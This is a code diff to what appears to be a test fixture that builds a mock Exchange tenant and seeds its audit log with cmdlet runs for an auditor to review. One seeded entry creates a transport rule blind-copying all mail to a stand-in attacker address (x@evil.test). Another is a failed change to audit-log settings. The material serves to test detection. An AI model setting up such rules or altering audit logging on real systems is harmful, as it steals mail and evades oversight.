@@ -24,6 +24,7 @@ def fill_exchange(scene: Scene) -> None:
     _mailboxes(scene)
     _role_groups(scene)
     _partners(scene)
+    _cmdlets(scene)
 
 
 def _app(
@@ -123,3 +124,19 @@ def _partners(scene: Scene) -> None:
     )
     exchange.add_partner(name, "Tailspin Admin Agents")
     exchange.add_partner("HelpdeskAdmins_{n}", f"PartnerRoleGroup_{partner}_HelpdeskAgents")
+
+
+def _cmdlets(scene: Scene) -> None:
+    """What was run, as the audit log has it; the auditor may read it."""
+    build, exchange = scene.build, scene.exchange
+    exchange.assign_workload(scene.client.principal_id, "View-Only Audit Logs")
+    exchange.custom_role("Journaling of Branch Offices", "Journaling")
+    master = build.application_named("Exchange Master")["appId"]
+    mail = build.application_named("Mailbox Provisioning")["appId"]
+    exchange.ran(
+        master, "New-TransportRule", build.stamp(-3), "Copy all", BlindCopyTo="x@evil.test"
+    )
+    exchange.ran(master, "Set-AdminAuditLogConfig", build.stamp(-2), "Default", ok=False)
+    exchange.ran(mail, "Set-Mailbox", build.stamp(-2), "Frances Allen", Identity="Frances Allen")
+    exchange.ran(mail, "Set-Mailbox", build.stamp(-120), "Tony Hoare", Identity="Tony Hoare")
+    exchange.ran("", "Set-Mailbox", build.stamp(-1), "Ada Lovelace", user="ada@contoso.example")
